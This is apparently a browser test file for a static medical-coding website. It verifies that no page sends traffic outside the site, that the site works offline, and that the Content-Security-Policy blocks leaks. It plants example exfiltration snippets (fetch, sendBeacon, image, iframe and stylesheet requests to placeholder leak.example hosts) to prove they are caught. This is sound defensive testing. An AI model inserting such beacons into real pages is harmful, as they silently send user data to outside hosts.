// The site from a plain static server that is all there is: every page does what it promises, nothing is asked of anybody else,
// and of the server only files of the site. With the server stopped, what is open goes on. Planted leaks must be caught.
// Browsers: chromium, firefox

import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { Panel, SITE, start } from './harness.mjs';
import { calm, foreignTo, hostOf, openSink } from './sink.mjs';
import { JOBS } from './site-jobs.mjs';
import { textOf } from './site.mjs';

/** Ways to send, none of which may throw into what stands after it. */
const LEAKS = {
  fetch: "fetch('http://fetch.leak.example/', { mode: 'no-cors', method: 'POST', body: 'note' }).catch(() => {});",
  beacon: "try { navigator.sendBeacon('http://beacon.leak.example/', 'note'); } catch {}",
  image: "try { new Image().src = 'http://image.leak.example/'; } catch {}",
  frame: "try { document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://frame.leak.example/' })); } catch {}",
  style: "try { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://style.leak.example/' })); } catch {}",
};
const PLANTED = `${Object.values(LEAKS).join('\n')}\nfetch('stolen?sodium').catch(() => {});\ndocument.documentElement.dataset.ran = 'yes';\n`;
const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** A copy of the site with leaks planted in the code book; with or without its policy. */
function leaking(policy) {
  const folder = mkdtempSync(join(tmpdir(), 'chartside-site-'));
  cpSync(SITE, folder, { recursive: true });
  const edit = (name, change) => writeFileSync(join(folder, name), change(readFileSync(join(folder, name), 'utf8')));
  edit('codebook-page.js', (text) => `${text}\n${PLANTED}`);
  if (!policy) edit('codebook.html', (text) => text.replace(POLICY, ''));
  return folder;
}

/** Runs `work` on the site in a browser all of whose traffic is watched. */
async function watched(site, work) {
  const sink = await openSink();
  const session = await start({ extension: null, site, launch: sink.launch });
  const requests = session.server.requests;
  const asked = [];
  const outside = (page) => page.on('request', (request) => asked.push(request.url()));
  try {
    await work({ session, open: (path) => session.at(session.server.origin + path, outside), requests });
    await calm();
  } finally {
    await session.close();
    await sink.close();
  }
  // The browser itself looks for an icon beside pages that name none.
  const own = requests.filter((line) => line !== 'GET /favicon.ico');
  return {
    arrived: sink.arrived,
    elsewhere: asked.filter((url) => !url.startsWith(`${session.server.origin}/`) && !/^(data|blob):/.test(url)),
    strange: own.filter((line) => !/^GET \/[\w./-]*$/.test(line) || !existsSync(join(site, line.slice('GET /'.length) || 'index.html'))),
    own,
  };
}

describe('the site, with the network cut', { timeout: 600_000 }, () => {
  let usual;
  before(async () => {
    const { arrived } = await watched(SITE, async ({ open }) => void (await open('/frame.html')));
    usual = new Set(arrived.map(hostOf));
  });
  const foreign = (arrived) => foreignTo(usual, arrived);

  test('every page does its work; nothing leaves but requests for files of the site', async () => {
    const { arrived, elsewhere, strange, own } = await watched(SITE, async ({ open }) => {
      for (const [name, job] of Object.entries(JOBS)) {
        const page = await open(`/${name}.html`);
        await job(page);
        await page.close();
      }
      const page = await open('/');
      await page.waitForSelector('#note > *');
      await page.click('#open-panel');
      await page.waitForSelector('#panel-frame');
      const frame = await (await page.$('#panel-frame')).contentFrame();
      await frame.waitForSelector('body[data-state]');
      assert.equal(await new Panel(page, frame).settled(), 'findings');
      await page.close();
    });
    assert.deepEqual(foreign(arrived), []);
    assert.deepEqual(elsewhere, []);
    assert.deepEqual(strange, []);
    assert.ok(own.some((line) => line.endsWith('/knowledge.pack')), 'the log of the server is there');
  });

  test('what the engine needs is asked for at the very beginning, and once', async () => {
    for (const name of Object.keys(JOBS)) {
      const { own } = await watched(SITE, async ({ open }) => {
        const page = await open(`/${name}.html`);
        await page.waitForFunction(() => document.querySelector('.code-set').textContent !== '');
      });
      const at = (file) => own.indexOf(`GET /${file}`);
      assert.ok(at('knowledge.pack') >= 0 && at('knowledge.pack') < at('panel/engine-worker.js'), `${name}: ${own.join(', ')}`);
      assert.ok(at('panel/engine.js') < at('panel/engine-worker.js'), name);
      assert.deepEqual(own.filter((line, i) => own.indexOf(line) !== i), [], `${name}: asked for twice`);
    }
  });

  test('with the server stopped, what is open goes on, and what is not there is said', async () => {
    await watched(SITE, async ({ session, open }) => {
      const book = await open('/codebook.html');
      const practice = await open('/practise.html');
      for (const page of [book, practice]) await page.waitForSelector('body[data-state=ready]');
      await practice.bringToFront();
      await practice.click('[data-name="sodium-result"]');
      await practice.waitForSelector('#practising:not([hidden])');
      await session.server.close();

      await book.bringToFront();
      await JOBS.codebook(book);
      await practice.bringToFront();
      await practice.type('#known', 'I10');
      await practice.keyboard.press('Enter');
      await practice.waitForSelector('#mine > li');
      await practice.click('#check');
      await practice.waitForSelector('#scored:not([hidden])');
      await practice.click('#leave');
      await practice.waitForSelector('#choosing:not([hidden])');
      await practice.click('[data-name="urosepsis"]');
      await practice.waitForSelector('#trouble:not([hidden])');
      assert.match(await textOf(practice, '#trouble'), /scenarios\/urosepsis\.toml is not there/);
      assert.equal(await practice.$eval('#choosing', (list) => list.hidden), false);
    });
  });

  test('this would notice: leaks planted in a page whose policy was taken away', async () => {
    const site = leaking(false);
    try {
      const { arrived, elsewhere, strange } = await watched(site, async ({ open }) => {
        const page = await open('/codebook.html');
        await page.waitForSelector('html[data-ran=yes]');
        await calm(2000);
      });
      const caught = Object.keys(LEAKS).filter((by) => arrived.some((line) => hostOf(line) === `${by}.leak.example`));
      assert.deepEqual(caught, Object.keys(LEAKS));
      assert.ok(elsewhere.length > 0, 'the requests of the page');
      assert.deepEqual(strange, ['GET /stolen?sodium']);
    } finally {
      rmSync(site, { recursive: true, force: true });
    }
  });

  test('the same with the policy as it ships: the browser lets none of them out', async () => {
    const site = leaking(true);
    try {
      const { arrived } = await watched(site, async ({ open }) => {
        const page = await open('/codebook.html');
        await page.waitForSelector('html[data-ran=yes]');
        await JOBS.codebook(page);
      });
      assert.deepEqual(foreign(arrived), []);
    } finally {
      rmSync(site, { recursive: true, force: true });
    }
  });
});
